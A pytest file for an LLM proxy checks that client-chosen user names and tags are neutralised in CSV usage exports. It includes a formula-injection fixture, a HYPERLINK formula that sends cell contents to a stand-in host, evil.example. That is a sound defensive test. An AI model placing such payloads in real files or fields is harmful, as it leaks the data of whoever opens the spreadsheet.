"""Usage as CSV holds names a client chose (its `user`, its tags): a spreadsheet that opens the
file must show them as text, never run them as formulas."""

from __future__ import annotations

import csv
import io
import time
from collections.abc import Iterator

import httpx
import openai
import pytest

from proxy.app import create_app
from proxy.ledger.present import spreadsheet_cell
from proxy.policy import parse_policy
from tests.conftest import ADMIN_KEY, ALPHA_KEY, BACKEND_KEY, BETA_KEY, policy_text
from tests.servers import serve
from tests.web.test_attribution import run_report

ADMIN = {"authorization": f"Bearer {ADMIN_KEY}"}
HI = [{"role": "user", "content": "hi"}]
USER = '=HYPERLINK("https://evil.example/?"&A1,"open")'
TAGS = ("=1+2", "+A1", "-1", "@A1")


@pytest.fixture(scope="module")
def ledger_url(tmp_path_factory: pytest.TempPathFactory) -> str:
    return f"sqlite:///{tmp_path_factory.mktemp('csv') / 'ledger.db'}"


@pytest.fixture(scope="module")
def gateway(backend_url: str, ledger_url: str) -> Iterator[str]:
    text = policy_text(backend_url, extra=f"ledger: {ledger_url}\n")
    environ = {"BACKEND_KEY": BACKEND_KEY, "BETA_KEY": BETA_KEY}
    with serve(create_app(parse_policy(text, file="csv.yaml", environ=environ))) as url:
        with openai.OpenAI(base_url=url + "/v1", api_key=ALPHA_KEY, max_retries=0) as sdk:
            headers = {"x-tokenweir-tags": ",".join(TAGS)}
            sdk.chat.completions.create(
                model="mock-llm", messages=HI, user=USER, extra_headers=headers
            )
        _wait_for_a_request(url)
        yield url


def _wait_for_a_request(url: str) -> None:
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        rows = httpx.get(url + "/api/usage", headers=ADMIN).json()["data"]
        if rows:
            return
        time.sleep(0.1)
    raise AssertionError("the ledger did not show the request within 10 s")


def _cells(text: str, column: str) -> list[str]:
    return [row[column] for row in csv.DictReader(io.StringIO(text))]


@pytest.mark.parametrize(("group_by", "names"), [("user", [USER]), ("tag", sorted(TAGS))])
def test_names_a_client_chose_are_never_formulas_in_csv(
    gateway: str, ledger_url: str, group_by: str, names: list[str]
) -> None:
    params = {"group_by": group_by, "format": "csv"}
    answer = httpx.get(gateway + "/api/usage", params=params, headers=ADMIN)
    assert answer.status_code == 200
    expected = sorted("'" + name for name in names)
    assert sorted(_cells(answer.text, group_by)) == expected
    reported = run_report(ledger_url, "--by", group_by, "--format", "csv")
    assert sorted(_cells(reported, group_by)) == expected


def test_json_keeps_the_names_as_they_were_sent(gateway: str) -> None:
    params = {"group_by": "user"}
    answer = httpx.get(gateway + "/api/usage", params=params, headers=ADMIN)
    assert [row["user"] for row in answer.json()["data"]] == [USER]


def test_only_a_formulas_first_character_earns_the_quote() -> None:
    assert spreadsheet_cell("-ops") == "'-ops"
    assert spreadsheet_cell("ops-1") == "ops-1"
    assert spreadsheet_cell("") == ""
